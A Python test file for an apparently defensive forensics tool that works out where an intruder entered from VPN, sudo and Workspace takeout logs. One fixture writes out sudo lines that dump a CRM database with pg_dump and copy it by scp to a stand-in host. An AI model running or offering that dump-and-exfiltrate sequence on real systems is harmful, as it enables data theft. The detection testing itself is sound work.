"""From where somebody came in, where what they did has no address, or is spread over work and home."""

import json
from datetime import UTC, date, datetime, timedelta

from stanch.cause.actor import USUAL_PLACE, Actor, find_actor
from stanch.cause.detect import watch
from stanch.cause.entries import VPN_SESSION
from stanch.cause.sigma import own_rules
from stanch.cause.timeline import of_texts

AS_OF = date(2026, 6, 1)
NIGHT = datetime(2026, 5, 12, 1, 22, tzinfo=UTC)
DAYS = [NIGHT.replace(hour=8) - timedelta(days=ago) for ago in range(14, 0, -1)]


def actor_of(*texts: str) -> Actor:
    return find_actor(watch(of_texts([(f"log{at}", text) for at, text in enumerate(texts)], AS_OF), own_rules()))


def tunnel(at: datetime, outside: str, inside: str) -> str:
    return (
        f'{at:%b} {at.day:2} {at:%H:%M:%S} 10.0.0.1 date={at:%Y-%m-%d} time={at:%H:%M:%S} devname="FG60" devid="FGT60" logid="0101039424" type="event" '
        f'subtype="vpn" action="tunnel-up" remip={outside} user="kim" tunnelip={inside}\n'
    )


def typed(at: datetime, command: str) -> str:
    return f"{at:%b} {at.day:2} {at:%H:%M:%S} db1 sudo: kim : TTY=pts/1 ; PWD=/home/kim ; USER=root ; COMMAND={command}\n"


def test_behind_commands_without_an_address_stands_the_vpn_s_session() -> None:
    quiet = "".join(tunnel(day, "198.51.100.140", "10.212.134.21") + typed(day + timedelta(minutes=9), "/usr/bin/uptime") for day in DAYS)
    taken = typed(NIGHT + timedelta(minutes=6), "/usr/bin/pg_dump -f /tmp/c.sql crm") + typed(
        NIGHT + timedelta(minutes=9), "/usr/bin/scp /tmp/c.sql drop@192.0.2.199:/in/"
    )
    actor = actor_of(quiet + tunnel(NIGHT, "203.0.113.71", "10.212.134.25") + taken)
    assert "203.0.113.71" in actor.addresses
    assert "198.51.100.140" not in actor.addresses
    assert actor.entered == NIGHT
    assert VPN_SESSION in {hit.rule.id for hit in actor.hits}


def archive(at: datetime, name: str, ip: str) -> dict[str, object]:
    who = {"actor": {"email": "kim@example.com"}, "ipAddress": ip, "events": [{"type": "USER_TAKEOUT", "name": name}]}
    return {"id": {"time": f"{at:%Y-%m-%dT%H:%M:%S}.000Z", "uniqueQualifier": f"{at:%d%H%M}", "applicationName": "takeout"}, **who}


def viewed(at: datetime, app: str, name: str) -> dict[str, object]:
    return {
        **archive(at, name, "198.51.100.77"),
        "id": {"time": f"{at:%Y-%m-%dT%H:%M:%S}.000Z", "uniqueQualifier": f"{app}{at:%d%H%M}", "applicationName": app},
    }


def test_what_was_ordered_at_work_and_fetched_at_home_is_of_somebody_inside() -> None:
    usual = [viewed(day + timedelta(minutes=at), "login", "login_success") for day in DAYS for at in (0, 30)]
    evening = NIGHT.replace(hour=16) - timedelta(days=1)
    ordered = archive(evening, "STARTED_USER_TAKEOUT", "198.51.100.77")
    fetched = archive(evening + timedelta(hours=3), "DOWNLOADED_USER_TAKEOUT", "198.51.100.201")
    actor = actor_of(json.dumps({"items": [*usual, ordered, fetched]}))
    assert actor.addresses == set()
    assert USUAL_PLACE in {hit.rule.id for hit in actor.hits}
    abroad = archive(evening - timedelta(hours=3), "STARTED_USER_TAKEOUT", "203.0.113.71")
    assert actor_of(json.dumps({"items": [*usual, abroad]})).addresses == {"203.0.113.71"}
